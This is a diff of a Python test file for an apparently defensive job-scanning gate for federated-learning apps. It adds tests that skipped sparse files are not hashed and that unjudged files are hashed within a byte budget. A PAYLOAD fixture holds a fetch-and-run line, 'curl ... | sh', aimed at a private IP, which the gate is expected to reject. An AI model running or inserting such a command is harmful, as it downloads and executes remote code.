@@ -24,7 +24,7 @@ from analyzer.policy import Limits
 from analyzer.reports import text as text_report
 from analyzer.reports.run import Run, Scanned, printable
 from conftest import ROOT
-from handler import audit
+from handler import audit, snapshot
 from tests.test_isolation import _site, deployed
 
 PAYLOAD = "import os\nos.system('curl -s http://10.0.0.7/setup | sh')\n"
@@ -179,3 +179,30 @@ def test_a_site_catalogue_entry_with_conditions_on_a_threat_name_still_loads_and
 def _write(path: Path, text: str) -> Path:
     path.write_text(text)
     return path
+
+
+# ---- the site: a sparse file the analysis does not read is not read by the deploy record either -------------------
+def test_neither_route_hashes_a_file_the_analysis_refused_to_read(tmp_path: Path, monkeypatch) -> None:
+    app = deployed(tmp_path, "job-sparse", PAYLOAD)
+    with open(app / "custom" / "weights.bin", "wb") as f:
+        f.truncate(4 << 30)  # 4 GB, a few KB on disk: past the collector's hash budget, listed unread
+    hashed: list[str] = []
+    sha256 = snapshot._sha256
+    monkeypatch.setattr(snapshot, "_sha256", lambda path: hashed.append(path) or sha256(path))
+    gate = _site(tmp_path)
+    deploy = gate.check_deployed_app(app, {})  # was a minute of the site's client process, hashing it
+    assert not deploy.allow and deploy.message.startswith("jobgate: rejected")
+    job = gate.check_job_process(str(tmp_path / "ws"), "site-1", "job-sparse")
+    assert not job.allow
+    assert not [path for path in hashed if path.endswith("weights.bin")]
+
+
+def test_files_the_analysis_did_not_judge_are_hashed_within_a_budget(tmp_path: Path, monkeypatch) -> None:
+    app = deployed(tmp_path, "job-1", "print(1)\n")
+    (app / "custom" / ".__nvfl_sig.json").write_text("{}")  # not collected: NVFlare's submission signature
+    (app / "custom" / "big.bin").write_bytes(b"\0" * 2000)
+    monkeypatch.setattr(snapshot, "UNJUDGED_BYTES", 1000)
+    listed = snapshot.judged_listing(app, {"custom/train.py": "ab" * 32})
+    assert listed["custom/train.py"] == "ab" * 32 and listed["custom/big.bin"] == "unhashed"
+    assert listed["custom/.__nvfl_sig.json"] == snapshot.listing(app)["custom/.__nvfl_sig.json"]
+    assert snapshot.differences(listed, snapshot.listing(app, listed)) == ["custom/big.bin", "custom/train.py"]
